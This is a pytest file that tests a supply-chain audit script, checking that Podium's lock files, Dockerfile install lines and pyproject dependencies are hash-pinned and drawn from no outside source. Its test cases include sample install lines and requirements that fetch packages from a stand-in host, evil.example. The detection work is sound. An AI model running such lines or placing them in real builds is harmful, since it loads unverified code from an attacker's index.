"""What Podium is built from is pinned with hashes, and the audit would notice if it were not."""

from __future__ import annotations

import runpy
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

ROOT = Path(__file__).parents[2]
GOOD = f"aiohttp==3.14.5 \\\n    --hash=sha256:{'0' * 64} \\\n    --hash=sha256:{'1' * 64}\n"


@pytest.fixture(scope="module")
def script() -> dict[str, Any]:
    return runpy.run_path(str(ROOT / "scripts" / "audit.py"))


def test_everything_here_is_pinned_with_hashes() -> None:
    ended = subprocess.run(
        [ROOT / "scripts" / "audit"],
        capture_output=True,
        text=True,
        env={"PODIUM_PYTHON": sys.executable, "PATH": "/usr/bin:/bin"},
        check=False,
    )
    assert ended.returncode == 0, ended.stderr
    assert "pinned with hashes" in ended.stderr


def test_a_good_lock_file_has_no_problem(script: dict[str, Any]) -> None:
    assert list(script["problems_of_lock"]("x.lock", f"# made by uv\n{GOOD}")) == []


@pytest.mark.parametrize(
    "entry",
    [
        "aiohttp==3.14.5",
        f"aiohttp>=3.14 --hash=sha256:{'0' * 64}",
        f"aiohttp --hash=sha256:{'0' * 64}",
        "aiohttp==3.14.5 --hash=md5:abc",
        f"aiohttp @ https://evil.example/aiohttp.whl --hash=sha256:{'0' * 64}",
        "-e .",
        "--extra-index-url https://evil.example/simple",
        "git+https://evil.example/aiohttp",
    ],
)
def test_unpinned_requirements_are_found(script: dict[str, Any], entry: str) -> None:
    assert len(list(script["problems_of_lock"]("x.lock", GOOD + entry))) == 1


@pytest.mark.parametrize(
    ("line", "problems"),
    [
        ("RUN pip install --require-hashes -r requirements.lock", 0),
        ("# pip install whatever", 0),
        ("RUN pip install --no-deps .", 0),
        ("RUN pip install requests", 1),
        ("uv pip install -r requirements.lock", 1),
        ("pip install --require-hashes --extra-index-url https://evil.example -r x.lock", 1),
        ("pip install \\\n    git+https://evil.example/x", 1),
    ],
)
def test_an_installation_without_hashes_or_from_elsewhere_is_found(
    script: dict[str, Any], line: str, problems: int
) -> None:
    assert len(list(script["problems_of_installer"]("x", line))) == problems


def test_a_dependency_from_elsewhere_is_found(script: dict[str, Any]) -> None:
    table = '[project]\ndependencies = ["a @ git+https://evil.example/a", "b>=1"]\n'
    assert len(list(script["problems_of_table"](table))) == 1


@pytest.mark.parametrize(
    ("installed", "code", "message", "ended"),
    [
        (False, 0, "", 0),
        (True, 0, "No known vulnerabilities found", 0),
        (True, 1, "Found 1 known vulnerability in 1 package", 1),
        (True, 1, "ServiceError: Could not connect", 0),
        (True, 0, "anyio not found and could not be audited: anyio (4.0.0)", 0),
    ],
    ids=["not installed", "nothing known", "vulnerable", "cannot be reached", "hidden"],
)
def test_vulnerabilities_fail_the_audit_and_a_missing_network_does_not(
    script: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    installed: bool,
    code: int,
    message: str,
    ended: int,
) -> None:
    here = script["look_up"].__globals__
    monkeypatch.setitem(here, "find_spec", lambda name: object() if installed else None)
    answer = SimpleNamespace(returncode=code, stdout="", stderr=message)
    monkeypatch.setitem(here, "subprocess", SimpleNamespace(run=lambda *_, **__: answer))
    assert script["look_up"](ROOT) == ended
    was_skipped = not installed or "Service" in message or "audited" in message
    assert ("SKIPPED" in capsys.readouterr().err) == was_skipped
